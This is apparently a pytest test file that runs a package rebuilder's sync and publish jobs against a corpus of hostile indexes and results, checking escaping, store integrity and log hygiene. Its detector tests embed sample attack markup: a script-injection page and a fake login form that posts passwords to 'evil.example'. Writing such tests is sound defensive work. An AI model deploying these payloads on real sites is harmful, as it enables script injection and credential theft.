"""The hostile corpus (corpus/cases.toml) run through the real sync and publish jobs, case by case.

For every case: the outcome the manifest expects (a clear error, a counted skip, or kept), and
the global properties of issue #8: nothing half-written in the store after an error (the
listing and every object's bytes are as before), nothing unescaped on the site, nothing
published that should not be (a skipped entry is in no snapshot or queue, a rejected result in
no history and on no page), nothing outside the store written or run, every log line short and
free of control characters.
"""

from __future__ import annotations

import bz2
import fnmatch
import gzip
import json
import logging
import lzma
import os
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import zstandard

from jobs.core.errors import RebuilderError
from jobs.core.signing import generate_key, key_id, verify_document
from jobs.core.signing.errors import SignatureError
from jobs.core.store import LocalStore
from jobs.core.store.base import check_key
from tests.hostile import generate, syncrun, worlds
from tests.hostile.manifest import CORPUS, MANIFEST, Case, by_kind, load
from tests.hostile.sitecheck import PublishedSite
from tests.sync import alpm_builders as alpm

CASES = load()
SYNC_KINDS = ("arch-db", "arch-desc", "debian-mirror")
MAX_LOG_LINE = 2000
MAX_REASON = 400
MAX_SYNC_CPU_SECONDS = 10.0  # the slowest case (100,000 descs of one name) needs about 2
# C0 and C1 controls and the bidirectional overrides: nothing from an index may reach a log raw.
_UNSAFE_IN_LOGS = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def params(*kinds: str, isolated: bool | None = None) -> list:
    """The cases of `kinds` as pytest params, xfail(strict) where the manifest names a known bug."""
    out = []
    for case in by_kind(CASES, *kinds):
        if isolated is not None and case.isolated != isolated:
            continue
        marks = [pytest.mark.xfail(strict=True, reason=case.xfail)] if case.xfail else []
        out.append(pytest.param(case, id=case.id, marks=marks))
    return out


@pytest.fixture(scope="session")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Where the big inputs are written, each when a case first needs it (about 100 MB, removed at the end)."""
    root = tmp_path_factory.mktemp("generated")
    yield root
    shutil.rmtree(root, ignore_errors=True)


def materialise(case: Case, generated: Path) -> Path:
    path = case.path(generated)
    if case.generated and not path.exists():
        generate.BIG[case.id](path)
    return path


@pytest.fixture(scope="session")
def baselines(tmp_path_factory: pytest.TempPathFactory):
    """kind -> a store holding a good sync of `good` and `old` (made once per process, copied per case)."""
    made: dict[str, Path] = {}

    def get(kind: str) -> Path:
        if kind not in made:
            made[kind] = syncrun.baseline_store(kind, tmp_path_factory.mktemp(kind))
        return made[kind]
    return get


def check_logs(caplog: pytest.LogCaptureFixture) -> None:
    for record in caplog.records:
        message = record.getMessage()
        assert len(message) <= MAX_LOG_LINE, f"a {len(message)}-character log line: {message[:200]!r}"
        assert not _UNSAFE_IN_LOGS.search(message), f"a raw control character reached the log: {message!r}"


# --- the corpus itself --------------------------------------------------------------------------------------------

def test_the_manifest_lists_every_committed_input_and_nothing_else():
    assert len(CASES) >= 50
    listed = {c.input for c in CASES if not c.generated}
    committed = set()
    for path in CORPUS.rglob("*"):
        if path.is_file() and path != MANIFEST:
            rel = path.relative_to(CORPUS).as_posix()
            assert path.stat().st_size < 100_000, f"{rel}: commit a builder in generate.BIG instead"
            top = rel.split("/")[0]
            committed.add("/".join(rel.split("/")[:2]) if top == "debian" else rel)
    assert committed == listed
    assert {c.id for c in CASES if c.generated} == set(generate.BIG)
    assert {c.id for c in CASES if c.input.startswith(("arch/", "debian/")) and not c.generated} == \
        set(generate.ARCH) | set(generate.DEBIAN)
    for case in CASES:
        assert Path(case.input).stem == case.id or case.input.split("/")[1] == case.id, case.id


def test_the_committed_archives_and_mirrors_are_what_the_generator_makes(tmp_path: Path):
    for case_id in [*generate.ARCH, *generate.DEBIAN]:
        folder = "arch" if case_id in generate.ARCH else "debian"
        made = generate.make_small(case_id, tmp_path / case_id)
        committed = CORPUS / folder / case_id
        files = {p.relative_to(made).as_posix(): content(p.read_bytes()) for p in made.rglob("*") if p.is_file()}
        assert files == {p.relative_to(committed).as_posix(): content(p.read_bytes()) for p in committed.rglob("*")
                         if p.is_file()}, f"regenerate: .venv/bin/python -m tests.hostile.generate {case_id}"


def content(data: bytes) -> tuple[str, bytes | None]:
    """What a file holds, independent of the compressor's version: its bytes, decompressed (None if damaged)."""
    for magic, kind, unpack in ((b"\x1f\x8b", "gzip", gzip.decompress), (b"\xfd7zXZ", "xz", lzma.decompress),
                                (b"BZh", "bzip2", bz2.decompress),
                                (b"\x28\xb5\x2f\xfd", "zstd", zstandard.ZstdDecompressor().decompress)):
        if data.startswith(magic):
            try:
                return kind, unpack(data)
            except Exception:  # noqa: BLE001 - damaged on purpose: the kind of damage is the case's business
                return kind, None
    return "plain", data


# --- indexes through the real sync job ----------------------------------------------------------------------------

def index_of(case: Case, generated: Path, tmp: Path) -> Path:
    """The directory (Arch: holding core.db) or mirror root the case's profile points at."""
    path = materialise(case, generated)
    if case.kind == "arch-desc":
        directory = tmp / "index"
        directory.mkdir()
        (directory / "core.db").write_bytes(alpm.db([*generate.GOOD, alpm.M("hostile-1-1/desc", path.read_bytes())]))
        return directory
    return path.parent if case.kind == "arch-db" else path


@pytest.mark.parametrize("case", params(*SYNC_KINDS))
def test_index_case(case: Case, baselines, generated: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                    caplog: pytest.LogCaptureFixture):
    kind = "debian-mirror" if case.kind == "debian-mirror" else "arch-db"
    index = index_of(case, generated, tmp_path)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    caplog.set_level(logging.INFO)
    started = time.process_time()
    run = syncrun.run(kind, baselines(kind), tmp_path / "store", index)
    spent = time.process_time() - started
    check_logs(caplog)
    # CPU time, not wall time (other processes share the machine): a quadratic parser is a denial of service.
    assert spent < MAX_SYNC_CPU_SECONDS, f"the sync took {spent:.1f} s of CPU"
    assert list(cwd.iterdir()) == [], "the sync wrote outside the store (extracted a member? ran a name?)"

    if case.outcome == "error":
        assert run.error is not None, f"expected an error, got: {run.summary.line()}"
        error = run.error
        assert isinstance(error, RebuilderError) and not error.transient, f"not a clear error: {error!r}"
        assert case.detail in str(error)
        assert len(str(error)) < 1000 and str(error).isprintable(), str(error)[:300]
        # Nothing half-written: the same objects with the same bytes; only the lock was released.
        assert {k: v for k, v in run.after.items() if not k.startswith("locks/")} == \
            {k: v for k, v in run.before.items() if not k.startswith("locks/")}
        assert run.after.keys() == run.before.keys() and run.lock_released()
        return

    assert run.error is None, f"{type(run.error).__name__}: {run.error}"
    assert run.summary is not None and run.summary.outcome == "updated"
    assert run.summary.skipped == len(run.skipped) == case.expected_skips()
    for skip in run.skipped:
        assert case.outcome != "skip" or case.detail in skip.reason, (skip.location, skip.reason)
        for text in (skip.reason, skip.location):
            assert len(text) <= MAX_REASON and text.isprintable(), text[:200]
    rows = run.snapshot()
    names = {row.artifact_name for row in rows}
    patterns = case.keep or ("good",)
    for pattern in patterns:
        assert len(fnmatch.filter(names, pattern)) == 1, (pattern, sorted(n[:40] for n in names))
    assert all(any(fnmatch.fnmatchcase(n, p) for p in patterns) for n in names), sorted(n[:40] for n in names)
    assert run.queued_artifacts() <= names, "a skipped package was queued"
    new = set(run.after) - set(run.before)
    assert all(k.startswith(("state/hostile/", "queue/", "locks/")) for k in new), sorted(new)
    if case.fields:
        check_fields(case, rows)


def check_fields(case: Case, rows: list) -> None:
    """The hostile artifact's state row holds exactly the values the manifest gives."""
    wanted = dict(case.fields)
    if "artifact_name" in wanted:
        [row] = [r for r in rows if r.artifact_name == wanted["artifact_name"]]
    else:
        [row] = [r for r in rows if r.artifact_name != "good"]
    for name, value in wanted.items():
        if name.endswith("_endswith"):
            assert getattr(row, name.removesuffix("_endswith")).endswith(value), (name, getattr(row, name[:-9]))
        elif name == "maintainers":
            assert list(row.maintainers) == value
        else:
            assert getattr(row, name) == value, (name, getattr(row, name))


# --- payloads a sync keeps, on the published site -----------------------------------------------------------------

SITE_CASES = [c for c in CASES if c.site]


@pytest.fixture(scope="module")
def synced(tmp_path_factory: pytest.TempPathFactory) -> worlds.World:
    tmp = tmp_path_factory.mktemp("synced-site")
    cwd = tmp / "cwd"
    cwd.mkdir()
    previous = os.getcwd()
    os.chdir(cwd)  # a name that ran as a command would leave its file here
    try:
        world = worlds.synced_world(tmp, SITE_CASES)
    finally:
        os.chdir(previous)
    assert list(cwd.iterdir()) == []
    return world


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in SITE_CASES])
def test_synced_payload_on_the_site(case: Case, synced: worlds.World):
    patterns = [p for p in case.keep if p != "good"]
    rows = [r for r in synced.state_rows() if any(fnmatch.fnmatchcase(r.artifact_name, p) for p in patterns)]
    assert rows, patterns
    check_published(synced, rows)


def check_published(world: worlds.World, rows: list, shown: str | None = None) -> None:
    """Each row's name and version round-trip through the JSON feed and are shown (as `shown`), never verbatim HTML."""
    site = world.site
    assert site is not None
    feed = set(site.feed_names())
    for row in rows:
        assert (row.artifact_name, row.artifact_version) in feed
        text = shown or row.artifact_name
        assert site.shown(text), f"{text[:60]!r} is on no page"
        for value in (row.artifact_name, row.artifact_version, row.source_name, *row.maintainers,
                      row.artifact_filename or ""):
            if "<" in value or "&" in value:
                assert site.verbatim(value) == [], f"{value!r} unescaped"


def test_the_synced_site_is_clean(synced: worlds.World):
    check_clean(synced)


def check_clean(world: worlds.World) -> None:
    """No injection on any page, every JSON parses, every key is a safe key under site/, publish wrote nothing else."""
    assert world.site is not None
    assert world.site.problems == []
    for key in world.site.raw:
        check_key(f"site/{key}", op="test")
        assert ".." not in key.split("/") and "\\" not in key and not re.search(r"[<>\"'`$\x00-\x1f]", key), key
    assert world.new_keys_outside() == []


# --- package-state rows no parser accepts, on the published site --------------------------------------------------

@pytest.fixture(scope="module")
def state(tmp_path_factory: pytest.TempPathFactory) -> worlds.World:
    return worlds.state_world(tmp_path_factory.mktemp("state-site"), by_kind(CASES, "state-row"))


@pytest.mark.parametrize("case", params("state-row"))
def test_state_row_case(case: Case, state: worlds.World):
    row = state.rows[case.id]
    check_published(state, [row], shown=case.fields.get("shown"))
    assert state.site is not None
    spec = case.load_json()
    for payload in (spec.get("reason", ""), *(v for v in spec.values() if isinstance(v, str))):
        if "<" in payload or "&" in payload:
            assert state.site.verbatim(payload) == [], f"{payload!r} unescaped"


def test_the_state_site_is_clean(state: worlds.World):
    check_clean(state)


# --- results through the real publish job -------------------------------------------------------------------------

CONTROL = next(c for c in CASES if c.id == "result-control-valid")


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory, generated: Path) -> worlds.World:
    shared = [c for c in by_kind(CASES, "result") if not c.isolated]
    for case in shared:
        materialise(case, generated)
    return worlds.result_world(tmp_path_factory.mktemp("results"), shared, generated)


@pytest.mark.parametrize("case", params("result", isolated=False))
def test_result_case(case: Case, results: worlds.World):
    check_result(case, results)


@pytest.mark.parametrize("case", params("result", isolated=True))
def test_isolated_result_case(case: Case, generated: Path, tmp_path: Path):
    materialise(case, generated)
    world = worlds.result_world(tmp_path, [CONTROL, case], generated)
    check_result(CONTROL, world)
    check_result(case, world)
    check_clean(world)
    assert world.site is not None
    for report in world.site.root.rglob("diffoscope.html"):  # no CSS from a worker's report (issue #15)
        text = report.read_text()
        assert "<style" not in text and " style=" not in text and "track.example" not in text, report
        assert "static/diffoscope.css" in text, report


def check_result(case: Case, world: worlds.World) -> None:
    assert world.summary is not None and world.site is not None
    planted = world.planted[case.id]
    accepted = {a.key for a in world.summary.state.accepted}
    rejected = {r.key: r for r in world.summary.state.rejected}
    history = world.history_build_ids()
    if case.outcome == "ok":
        assert planted.key in accepted, rejected.get(planted.key)
        assert planted.build_id in history
        assert planted.marker and world.site.shown(planted.marker), "an accepted result is on no page"
        return
    assert case.outcome == "skip", "a result is accepted or rejected, never an error"
    assert planted.key in rejected, f"not rejected: {planted.key}"
    assert rejected[planted.key].reason == case.detail, rejected[planted.key]
    assert rejected[planted.key].detail, "a rejection says why"
    assert planted.build_id is None or planted.build_id not in history, "a rejected result reached the history"
    if planted.marker:
        # Only the operators' list of rejected objects may name it (escaped there like every page).
        shown = [k for k in world.site.in_any_file(planted.marker)
                 if not k.endswith(("rejected.html", "api/v1/rejected.json"))]
        assert shown == [], "a rejected result reached the site"


def test_only_accepted_results_reach_the_history_and_the_site_is_clean(results: worlds.World):
    assert results.summary is not None
    accepted = results.summary.state.accepted
    assert len(results.history_build_ids()) == len(accepted) == sum(
        1 for c in by_kind(CASES, "result") if not c.isolated and c.outcome == "ok") + 1  # + attempt 1 of the replay
    check_clean(results)


def _deeper(frames: int, call, *args):
    return call(*args) if frames == 0 else _deeper(frames - 1, call, *args)


def test_a_document_nested_to_the_recursion_limit_is_malformed_not_a_crash():
    """json.loads reads nesting up to about the recursion limit; a reader further down the stack (publish checks
    signatures a few calls deeper than it parses) must not crash walking it again (jobs/core/signing/canonical.py)."""
    key = generate_key()
    trusted = {key_id(key.public_key()): key.public_key()}
    envelope = '{{"signed": {{"a": {0}}}, "signatures": [{{"keyid": "{1}", "sig": "{2}"}}]}}'
    checked = 0
    for depth in range(1100, 700, -1):  # the deepest documents json still reads
        try:
            doc = json.loads(envelope.format("[" * depth + "]" * depth, "0" * 64, "0" * 128))
        except RecursionError:
            continue  # the reader's to catch (verify.py _json): see the result-deep-nesting case
        with pytest.raises(SignatureError, match="nested too deeply|not signed"):
            _deeper(20, verify_document, doc, trusted)
        checked += 1
        if checked == 30:
            break
    assert checked == 30


def test_the_site_checks_see_an_injection(tmp_path: Path):
    """The checks are not vacuous: an unescaped payload, a raw control character and a bad JSON feed are found."""
    store = LocalStore(tmp_path, fsync=False)
    page = "<!doctype html><a href=\"javascript:x\" onmouseover=\"y\">\x07</a><p><script>alert(1)</script><img></p>"
    store.put("site/packages/a.html", page.encode(), content_type="text/html; charset=utf-8")
    store.put("site/api/v1/a.json", b"{", content_type="application/json")
    site = PublishedSite.read(store)
    found = " | ".join(site.problems)
    for problem in ("inline script", "<script> that is not", "javascript: URL", "injected attribute 'onmouseover'",
                    "injected <img>", "raw control character", "not JSON"):
        assert problem in found, found
    assert site.verbatim("<script>alert(1)</script>") == ["packages/a.html"]


def test_the_site_checks_allow_only_the_templates_search_form(tmp_path: Path):
    """The search box the templates write passes; a payload's form, field or button does not."""
    store = LocalStore(tmp_path, fsync=False)
    ours = ('<form class="site-search" role="search" action="../search.html" method="get">'
            '<input type="search" name="q"> <button type="submit">Search</button></form>')
    store.put("site/packages/ours.html", f"<!doctype html>{ours}".encode(), content_type="text/html; charset=utf-8")
    theirs = ('<form action="https://evil.example/steal" method="post"><input type="password" name="pw">'
              '<button>Log in</button></form><p><input name="q" type="search"><button type="submit">x</button></p>')
    store.put("site/packages/theirs.html", f"<!doctype html>{theirs}".encode(), content_type="text/html; charset=utf-8")
    problems = PublishedSite.read(store).problems
    assert not [p for p in problems if "ours.html" in p], problems
    assert sum("theirs.html" in p and "injected <" in p for p in problems) == 5, problems
